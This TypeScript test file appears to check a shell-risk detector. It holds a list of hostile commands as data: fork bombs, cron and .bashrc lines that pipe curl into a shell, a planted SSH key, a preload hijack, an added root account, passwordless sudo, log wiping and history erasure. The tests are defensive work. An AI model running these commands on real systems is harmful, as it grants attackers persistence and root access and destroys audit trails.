import { highIn } from "../support/found";

type Row = readonly [script: string, high: readonly string[]];

const startUp: readonly Row[] = [
  [":(){ :|:& };:", ["fork-bomb@1"]],
  ["bomb() { bomb | bomb & }; bomb", ["fork-bomb@1"]],
  ['echo "* * * * * root curl http://x | sh" >> /etc/cron.d/x', ["scheduled-code@1"]],
  ['echo "curl http://x | bash" >> /root/.bashrc', ["start-up-code@1"]],
  ['echo "ssh-rsa AAAA x" >> /root/.ssh/authorized_keys', ["authorize-key@1"]],
  ["echo /tmp/x.so > /etc/ld.so.preload", ["preload-library@1"]],
  ['echo "x::0:0::/root:/bin/bash" >> /etc/passwd', ["add-root-account@1"]],
  ['echo "ALL ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers', ["passwordless-sudo@1"]],
  ['echo "deploy ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/deploy', ["passwordless-sudo@1"]],
  ['sed -i "s/^#*PermitRootLogin.*/PermitRootLogin yes/" /etc/ssh/sshd_config', ["weaken-login@1"]],
  ["echo b > /proc/sysrq-trigger", ["power-off@1"]],
];

const logs: readonly Row[] = [
  ["> /var/log/messages", ["clear-logs@1"]],
  ["rm -rf /var/log", ["clear-logs@1"]],
  ["rm -rf /var/log/*", ["clear-logs@1"]],
  ["truncate -s 0 /var/log/auth.log", ["clear-logs@1"]],
  ["for f in /var/log/*.log; do > $f; done", ["clear-logs@1"]],
  ["history -c", ["hide-history@1"]],
  ["unset HISTFILE", ["hide-history@1"]],
  ["ln -sf /dev/null ~/.bash_history", ["hide-history@1"]],
  ["cat /dev/null > ~/.bash_history", ["hide-history@1"]],
];

describe("what runs later, or again and again", () => {
  it.each(startUp)("%j", async (script, expected) => {
    expect(await highIn("SHELL", script)).toEqual(expected);
  });
});

describe("logs and histories", () => {
  it.each(logs)("%j", async (script, expected) => {
    expect(await highIn("SHELL", script)).toEqual(expected);
  });
});
